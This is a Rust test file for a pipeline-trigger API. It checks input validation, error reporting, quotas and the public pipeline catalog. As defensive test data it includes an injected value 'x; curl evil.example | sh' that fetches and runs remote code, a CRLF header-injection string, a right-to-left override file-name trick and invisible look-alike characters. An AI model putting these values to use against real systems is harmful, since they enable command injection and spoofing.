//! Typed inputs through the ingress on the real engines: checked at the
//! edge, every error at once, nothing spent on a refusal; the values reach
//! the record, the queue and the status; the public catalog.

mod common;

use common::*;
use serde_json::json;

const SETTINGS: &str = r#"{
  "app": {
    "description": "The app",
    "inputs": {
      "env": {"type": "choice", "options": ["staging", "production"], "default": "staging"},
      "dry_run": {"type": "boolean", "default": false},
      "replicas": {"type": "number", "min": 1, "max": 10, "integer": true},
      "branch": {"type": "string", "pattern": "[a-z0-9][a-z0-9/-]{0,62}", "max_length": 63,
                 "description": "the branch"}
    }
  }
}"#;

async fn harness_with_inputs() -> Harness {
    harness(&[("PIPELINE_SETTINGS", SETTINGS)]).await
}

#[tokio::test]
async fn inputs_are_checked_filled_and_carried_to_the_queue_and_the_status() {
    let h = harness_with_inputs().await;
    let body = r#"{"pipeline": "app", "inputs": {"replicas": 3, "branch": "feature/x"}}"#;
    let r = h.post(Some(body), CLIENT_IP).await;
    assert_eq!(r.status, 202, "{}", r.body);
    let expected =
        json!({"env": "staging", "dry_run": false, "replicas": 3, "branch": "feature/x"});
    assert_eq!(r.body["inputs"], expected);
    let id = r.body["trigger_id"].as_str().unwrap();
    let messages = h.queued().await;
    assert_eq!(messages.len(), 1);
    assert_eq!(messages[0].inputs, expected.as_object().cloned());
    let status = h.get(id).await;
    assert_eq!(status.body["inputs"], expected);
    // A pipeline without inputs: an empty object, and none in the message.
    let r = h.post(Some(r#"{"pipeline": "docs"}"#), CLIENT_IP).await;
    assert_eq!((r.status, &r.body["inputs"]), (202, &json!({})));
    assert_eq!(h.queued().await[0].inputs, None);
}

#[tokio::test]
async fn every_invalid_input_is_listed_in_one_400_that_costs_nothing() {
    let h = harness_with_inputs().await;
    let before = h.stack.calls.snapshot();
    let body = json!({"pipeline": "app", "inputs": {
        "env": "moon", "dry_run": "yes", "replicas": 2.5,
        "branch": "x; curl evil.example | sh", "<script>": 1
    }})
    .to_string();
    let r = h.post(Some(&body), CLIENT_IP).await;
    assert_eq!(r.status, 400, "{}", r.body);
    assert_eq!(r.headers["Content-Type"], "application/problem+json");
    assert_eq!(
        r.body["type"],
        "urn:pipeline-trigger:problem:invalid-inputs"
    );
    let errors: Vec<(String, String)> = r.body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["input"].as_str().unwrap().to_string(),
                e["detail"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let inputs: Vec<&str> = errors.iter().map(|(input, _)| input.as_str()).collect();
    assert_eq!(inputs, ["<script>", "branch", "dry_run", "env", "replicas"]);
    // The rejected values are never repeated.
    let text = r.body.to_string();
    assert!(!text.contains("curl") && !text.contains("moon"), "{text}");
    // Missing required inputs are named too.
    let r = h.post(Some(r#"{"pipeline": "app"}"#), CLIENT_IP).await;
    assert_eq!(r.status, 400);
    let missing: Vec<&str> = r.body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["input"].as_str().unwrap())
        .collect();
    assert_eq!(missing, ["branch", "replicas"]);
    // No AWS call, no quota: the full budget is still there.
    assert!(h.stack.calls.since(&before).is_empty());
    let r = h
        .post(
            Some(r#"{"pipeline": "app", "inputs": {"replicas": 1, "branch": "main"}}"#),
            CLIENT_IP,
        )
        .await;
    assert_eq!(r.status_and_remaining(), (202, Some(2)));
}

/// An input named twice is a 400 (a JSON map would keep the last value
/// silently), and a look-alike blank behind a loose pattern is invalid:
/// neither costs an AWS call nor a slot.
#[tokio::test]
async fn a_name_given_twice_or_a_look_alike_value_is_a_400_that_costs_nothing() {
    let loose = r#"{"app": {"inputs": {"tag": {"type": "string", "pattern": ".{1,40}"}}}}"#;
    let h = harness(&[("PIPELINE_SETTINGS", loose)]).await;
    let before = h.stack.calls.snapshot();
    let twice = r#"{"pipeline": "app", "inputs": {"tag": "a", "tag": "b"}}"#;
    let r = h.post(Some(twice), CLIENT_IP).await;
    assert_eq!(r.status, 400, "{}", r.body);
    assert_eq!(
        r.body["type"],
        "urn:pipeline-trigger:problem:malformed-body"
    );
    assert!(
        r.body["detail"]
            .as_str()
            .unwrap()
            .contains(r#"input "tag" is given twice"#),
        "{}",
        r.body
    );
    for blank in [
        '\u{3164}', '\u{FFA0}', '\u{FE0F}', '\u{34F}', '\u{2800}', '\u{A0}',
    ] {
        let body = json!({"pipeline": "app", "inputs": {"tag": format!("v1{blank}")}}).to_string();
        let r = h.post(Some(&body), CLIENT_IP).await;
        assert_eq!(r.status, 400, "U+{:04X}: {}", u32::from(blank), r.body);
        assert_eq!(r.body["errors"][0]["input"], "tag");
        let detail = r.body["errors"][0]["detail"].as_str().unwrap();
        assert!(
            detail.contains(&format!("U+{:04X}", u32::from(blank))),
            "{detail}"
        );
    }
    assert!(h.stack.calls.since(&before).is_empty());
    let r = h
        .post(
            Some(r#"{"pipeline": "app", "inputs": {"tag": "v1"}}"#),
            CLIENT_IP,
        )
        .await;
    assert_eq!(r.status_and_remaining(), (202, Some(2)));
}

#[tokio::test]
async fn bodies_up_to_8_kib_are_read() {
    let h = harness_with_inputs().await;
    let branch = "b".repeat(63);
    let json =
        format!(r#"{{"pipeline": "app", "inputs": {{"replicas": 1, "branch": "{branch}"}}}}"#);
    let body = format!("{json}{}", " ".repeat(8 * 1024 - json.len()));
    assert_eq!(body.len(), 8 * 1024);
    assert_eq!(h.post(Some(&body), CLIENT_IP).await.status, 202);
    let over = format!("{body} ");
    assert_eq!(h.post(Some(&over), CLIENT_IP).await.status, 413);
}

#[tokio::test]
async fn the_catalog_lists_public_names_defaults_descriptions_and_inputs() {
    let h = harness_with_inputs().await;
    let before = h.stack.calls.snapshot();
    let r = h
        .send(rest_event("GET", "/pipelines", None, CLIENT_IP))
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let pipelines = r.body["pipelines"].as_array().unwrap();
    let names: Vec<&str> = pipelines
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["app", "docs"]);
    assert_eq!(pipelines[0]["default"], true);
    assert_eq!(pipelines[1]["default"], false);
    assert_eq!(pipelines[0]["description"], "The app");
    assert!(pipelines[1].get("description").is_none());
    assert_eq!(
        pipelines[0]["inputs"]["branch"]["pattern"],
        "[a-z0-9][a-z0-9/-]{0,62}"
    );
    assert_eq!(
        pipelines[0]["inputs"]["env"]["options"],
        json!(["staging", "production"])
    );
    assert_eq!(pipelines[1]["inputs"], json!({}));
    // Never a CodePipeline name.
    let text = r.body.to_string();
    assert!(
        !text.contains("app-pipeline") && !text.contains("docs-pipeline"),
        "{text}"
    );
    assert!(
        h.stack.calls.since(&before).is_empty(),
        "the catalog costs no AWS call"
    );
    let r = h
        .send(rest_event("POST", "/pipelines", None, CLIENT_IP))
        .await;
    assert_eq!(r.status, 405);
}

#[test]
fn a_bad_setting_fails_the_start_naming_the_variable_and_the_input() {
    let env = shared::config::Env::from_pairs([
        ("TABLE_NAME", "t"),
        ("QUEUE_URL", "http://127.0.0.1:1/q"),
        ("PIPELINES", "app=app-pipeline"),
        ("CLIENT_KEY_SECRET", "test-secret-of-sufficient-length"),
        (
            "PIPELINE_SETTINGS",
            r#"{"app": {"inputs": {"branch": {"type": "string"}}}}"#,
        ),
    ]);
    let err = shared::config::IngressConfig::from_env(&env)
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("PIPELINE_SETTINGS") && err.contains("input branch"),
        "{err}"
    );
}

/// Values a pattern like `[^/]+` would let through, but that read as
/// something else (CR/LF, a right-to-left override, a zero-width space, a
/// decomposed letter): refused at the edge, named, never echoed, nothing spent.
#[tokio::test]
async fn invisible_characters_are_refused_at_the_edge_whatever_the_pattern() {
    let settings = r#"{"app": {"inputs": {"part": {"type": "string", "pattern": "[^/]+"}}}}"#;
    let h = harness(&[("PIPELINE_SETTINGS", settings)]).await;
    let before = h.stack.calls.snapshot();
    for hostile in [
        "main\r\nBcc: x",
        "txt.\u{202E}exe",
        "ma\u{200B}in",
        "cafe\u{301}",
    ] {
        let body = json!({"pipeline": "app", "inputs": {"part": hostile}}).to_string();
        let r = h.post(Some(&body), CLIENT_IP).await;
        assert_eq!(r.status, 400, "{hostile:?}: {}", r.body);
        assert_eq!(
            r.body["type"],
            "urn:pipeline-trigger:problem:invalid-inputs"
        );
        assert_eq!(r.body["errors"][0]["input"], "part");
        assert!(!r.body.to_string().contains(hostile), "{}", r.body);
    }
    assert!(
        h.stack.calls.since(&before).is_empty(),
        "no AWS call, no quota"
    );
    assert!(h.queued().await.is_empty(), "nothing reaches the queue");
    let body = json!({"pipeline": "app", "inputs": {"part": "caf\u{e9}"}}).to_string();
    assert_eq!(h.post(Some(&body), CLIENT_IP).await.status, 202);
}
